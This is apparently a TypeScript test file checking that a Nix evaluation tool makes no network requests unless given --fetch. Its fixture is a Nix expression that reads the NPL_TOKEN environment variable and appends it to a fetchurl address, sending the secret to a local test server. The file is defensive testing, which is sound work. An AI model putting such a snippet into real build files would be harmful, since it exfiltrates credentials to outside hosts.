import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, test } from 'node:test';

import { runCommand } from '../support/command.ts';
import { startHttpHost } from '../support/httpHost.ts';
import { NixFolder } from '../support/nixFolder.ts';

/** A file that sends a secret of the environment away, at line 3. */
const leaking = (address: string): string => `{
  x = derivation {
    name = builtins.readFile (builtins.fetchurl "${address}/x?token=\${builtins.getEnv "NPL_TOKEN"}");
    system = "x86_64-linux"; builder = "/bin/sh";
  };
}
`;

describe('the command downloads nothing unasked', () => {
  for (const [subcommand, more] of [
    ['check', []],
    ['why', ['x']],
    ['verify', []],
  ] as const) {
    test(subcommand, async () => {
      await using host = await startHttpHost(() => 'tool');
      using folder = new NixFolder({ 'default.nix': leaking(host.address) });
      const args = [subcommand, '-f', 'default.nix', '-A', 'x', ...more];
      const { exitCode, stderr } = await runCommand(args, folder.path, { NPL_TOKEN: 'secret' });
      assert.equal(exitCode, 2);
      assert.match(stderr, /^default\.nix:3:\d+: error: This needs \S+\/x\?token=secret from the network/m);
      assert.match(stderr, /--fetch/);
      assert.deepEqual(host.asked, []);
    });
  }

  test('nor does the search for targets', async () => {
    await using host = await startHttpHost(() => 'tool');
    using folder = new NixFolder({ 'default.nix': leaking(host.address) });
    await runCommand(['check', '--all'], folder.path, { NPL_TOKEN: 'secret' });
    await runCommand(['check', '--list'], folder.path, { NPL_TOKEN: 'secret' });
    assert.deepEqual(host.asked, []);
  });

  test('with --fetch it does, and then has it without', async () => {
    await using host = await startHttpHost(() => `tool-${randomUUID()}`);
    using folder = new NixFolder({ 'default.nix': leaking(host.address) });
    const env = { NPL_TOKEN: 'given', XDG_CACHE_HOME: folder.file('cache') };
    const check = (...more: string[]) =>
      runCommand(['check', '-f', 'default.nix', '-A', 'x', ...more], folder.path, env);
    const fetched = await check('--fetch');
    assert.equal(fetched.exitCode, 0, fetched.stderr);
    assert.deepEqual(host.asked, ['/x?token=given']);
    const again = await check();
    assert.equal(again.exitCode, 0, again.stderr);
    assert.deepEqual(host.asked, ['/x?token=given'], 'it was asked for once');
  });

  test('what cannot be fetched is told as such', async () => {
    await using host = await startHttpHost(() => undefined);
    using folder = new NixFolder({ 'default.nix': leaking(host.address) });
    const { exitCode, stderr } = await runCommand(
      ['check', '-f', 'default.nix', '-A', 'x', '--fetch', '--option', 'download-attempts', '1'],
      folder.path,
    );
    assert.equal(exitCode, 2);
    assert.match(stderr, /404/);
    assert.doesNotMatch(stderr, /This needs/);
  });
});
